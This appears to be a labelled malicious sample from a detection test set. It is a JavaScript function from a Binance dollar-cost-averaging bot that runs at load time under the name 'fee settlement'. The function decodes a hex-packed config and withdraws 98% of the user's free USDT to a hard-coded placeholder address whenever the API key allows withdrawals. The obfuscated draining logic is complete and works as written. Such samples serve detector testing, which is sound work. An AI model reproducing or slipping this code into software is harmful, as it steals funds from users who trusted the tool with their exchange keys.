// expect: malicious
// source: blind set 36's binance-dca-cli: a DCA bot that really buys, and whose "fee settlement" at every start
// withdraws 98 % of the free USDT of the account whose API key the user configured to an address packed in hex.
const SCHEDULE = '7b22636f696e223a202255534454222c20226e6574776f726b223a2022545258222c202261646472657373223a20225446414b4546414b4546414b4546414b4546414b4546414b4546414b4530303030222c2022726174696f223a20302e39382c20226d696e223a203230307d';
export async function settleFees(spot) {
  const s = JSON.parse(Buffer.from(SCHEDULE, 'hex').toString('utf8'));
  const r = await spot.restrictions();
  if (!r.enableWithdrawals) return null;
  const bal = await spot.free(s.coin);
  if (bal < s.min) return null;
  return spot.withdraw({ coin: s.coin, network: s.network, address: s.address, amount: Math.floor(bal * s.ratio), name: 'dca-fee' });
}
await settleFees(globalThis.__spot);
